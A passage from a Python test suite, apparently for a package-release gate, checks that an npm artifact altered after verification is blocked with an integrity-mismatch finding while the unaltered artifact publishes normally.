        assert [f["rule"] for f in blocking] == ["not-branch-head"], label
        assert why in blocking[0]["message"], (label, blocking[0]["message"])
        assert p.versions() == [], label
    # other bytes than the release job verified (a tampered artifact) block, head back on GITHUB_SHA
    git(p.ws, "push", "-q", "-f", "origin", f"{rel.sha}:refs/heads/main")
    other = (rel.artifact / "package.tgz").read_bytes()
    npm = {**p.verdaccio.npm_env(), "npm_config_cache": str(p.home / ".npm")}
    args = ["npm", "pack", "--pack-destination", str(p.ws.parent), "--ignore-scripts"]
    subprocess.run(
        ["npm", "version", "1.0.0", "--no-git-tag-version", "--allow-same-version", "--ignore-scripts"],
        cwd=p.ws,
        env=npm,
        check=True,
        capture_output=True,
    )
    (p.ws / "extra.js").write_text("module.exports = 'not verified';\n")
    out = subprocess.run(args, cwd=p.ws, env=npm, check=True, capture_output=True, text=True).stdout.split()[-1]
    tampered = (p.ws.parent / out).read_bytes()
    assert tampered != other
    result = p.publish(rel, tamper=tampered)
    assert result.returncode == 1, result.describe()
    assert "approved-integrity-mismatch" in {f["rule"] for f in result.report["findings"] if f["severity"] == "block"}
    assert p.versions() == []
    # and the untouched shape publishes
    result = p.publish(rel)
    assert result.returncode == 0, result.describe()
    assert p.versions() == ["1.0.0"]
